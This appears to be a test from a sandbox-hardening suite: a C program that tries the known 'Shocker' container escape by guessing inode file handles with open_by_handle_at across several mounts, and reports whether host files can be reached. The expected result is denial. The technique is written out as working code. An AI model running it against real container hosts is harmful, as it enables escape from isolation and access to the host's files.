// tries: Open the host's files by guessed inode handles, around every mount (the "Shocker" escape).
// user: root
// gvisor: denied
// container: denied
#include "verdict.h"

struct handle {
    unsigned int bytes;
    int type;
    unsigned char at[128];
};

int main(void) {
    const char *mounts[] = {"/", "/.sandlot/agent", "/etc/hosts", "/proc", "/dev/shm", "/home/user"};
    int opened = 0;
    for (int i = 0; i < 6; i++) {
        int at = open(mounts[i], O_RDONLY);
        if (at < 0) continue;
        for (unsigned inode = 1; inode < 400; inode++) {
            struct handle guess = {8, 1, {0}};
            memcpy(guess.at, &inode, sizeof inode);
            int file = syscall(SYS_open_by_handle_at, at, &guess, O_RDONLY);
            if (file < 0) continue;
            opened++;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", file);
            if (host_under(path)) escaped("inode %u of %s is the host's root", inode, mounts[i]);
            close(file);
        }
        close(at);
    }
    if (opened) escaped("%d files could be opened by their inode alone", opened);
    denied("open_by_handle_at: %s", strerror(errno));
}
